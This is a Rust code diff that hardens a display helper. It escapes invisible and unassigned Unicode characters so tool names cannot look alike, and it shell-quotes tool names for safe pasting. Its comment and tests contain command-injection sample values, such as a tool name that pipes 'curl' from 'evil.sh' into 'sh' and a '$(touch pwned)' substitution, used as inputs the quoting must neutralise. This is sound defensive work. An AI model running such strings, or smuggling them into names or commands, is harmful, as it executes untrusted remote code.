@@ -51,7 +51,11 @@ use serde::Serialize;
 use unicode_general_category::{GeneralCategory, get_general_category};
 
 /// Whether `c` is a control, format, or line/paragraph separator character: one a terminal
-/// may interpret, or that changes how the text around it looks without being seen.
+/// may interpret, or that changes how the text around it looks without being seen. Also every
+/// character Unicode says a renderer may draw as nothing (`Default_Ignorable_Code_Point`:
+/// variation selectors, the combining grapheme joiner, Hangul fillers, Mongolian free variation
+/// selectors, ...), the blank Braille pattern, and every unassigned code point, whose look no
+/// one can know: `read_file` and `read_file` + U+FE0F must never look alike.
 pub fn is_hidden(c: char) -> bool {
     if c.is_ascii() {
         return c.is_ascii_control();
@@ -62,7 +66,36 @@ pub fn is_hidden(c: char) -> bool {
             | GeneralCategory::Format
             | GeneralCategory::LineSeparator
             | GeneralCategory::ParagraphSeparator
+            | GeneralCategory::Unassigned
+    ) || drawn_as_nothing(c)
+}
+
+/// `Default_Ignorable_Code_Point` (Unicode 16, DerivedCoreProperties.txt) beyond the format
+/// characters, and U+2800, which fonts draw blank.
+fn drawn_as_nothing(c: char) -> bool {
+    matches!(
+        c as u32,
+        0x034F
+            | 0x115F..=0x1160
+            | 0x17B4..=0x17B5
+            | 0x180B..=0x180F
+            | 0x2060..=0x206F
+            | 0x2800
+            | 0x3164
+            | 0xFE00..=0xFE0F
+            | 0xFFA0
+            | 0xFFF0..=0xFFF8
+            | 0x1BCA0..=0x1BCA3
+            | 0x1D173..=0x1D17A
+            | 0xE0000..=0xE0FFF
     )
+}
+
+/// `name` as one word a person can paste into a shell, shown [`visible`]: quoted unless it is
+/// plain (`send_email`), so that a tool named `x;curl evil|sh` is pasted as a name, never run.
+pub fn shell_word(name: &str) -> String {
+    let quoted = shlex::try_quote(name).unwrap_or_else(|_| Cow::Owned(format!("'{}'", name.replace('\'', "'\\''"))));
+    visible(&quoted).into_owned()
 }
 
 /// Whether `text` holds a hidden character, which [`visible`] would show escaped. (A backslash
@@ -243,6 +276,32 @@ mod tests {
     ];
 
     #[test]
+    fn characters_drawn_as_nothing_are_hidden_and_two_names_never_look_alike() {
+        // A variation selector, a Hangul filler, the combining grapheme joiner, a Mongolian
+        // variation selector, the blank Braille pattern, an unassigned code point, a tag.
+        for c in ['\u{fe0f}', '\u{3164}', '\u{34f}', '\u{180b}', '\u{2800}', '\u{378}', '\u{e0041}', '\u{2065}'] {
+            assert!(is_hidden(c), "U+{:04X}", c as u32);
+            let name = format!("read_file{c}");
+            assert_ne!(visible(&name), "read_file", "U+{:04X}", c as u32);
+            assert!(warning("the tool's name", &name).is_some());
+        }
+        for c in ['é', 'ß', '中', '😀', '\u{301}'] {
+            assert!(!is_hidden(c), "U+{:04X}", c as u32);
+        }
+    }
+
+    #[test]
+    fn a_name_in_a_command_to_paste_is_one_shell_word() {
+        assert_eq!(shell_word("send_email"), "send_email");
+        for name in ["x;curl -s evil.sh|sh", "x$(touch pwned)", "a b", "it's", "`id`", "-rf"] {
+            let word = shell_word(name);
+            assert_eq!(shlex::split(&word), Some(vec![name.to_owned()]), "{name} -> {word}");
+        }
+        // Hidden characters are still shown escaped, inside the quotes.
+        assert!(!shell_word("x\u{1b}]0;t\u{7}").chars().any(is_hidden));
+    }
+
+    #[test]
     fn every_hidden_class_is_escaped_as_its_code_point() {
         for &(c, name) in HOSTILE {
             let text = format!("a{c}b");
@@ -294,7 +353,10 @@ mod tests {
             if c.is_control() {
                 assert!(is_hidden(c), "U+{:04X} is a control", c as u32);
             }
-            if c.is_alphanumeric() || c == ' ' {
+            // A letter newer than the crate's Unicode version is unassigned to it, and shown
+            // escaped; so are the Hangul fillers, letters that are drawn as nothing.
+            let assigned = get_general_category(c) != GeneralCategory::Unassigned;
+            if (c.is_alphanumeric() || c == ' ') && assigned && !drawn_as_nothing(c) {
                 assert!(!is_hidden(c), "U+{:04X} is ordinary", c as u32);
             }
         }
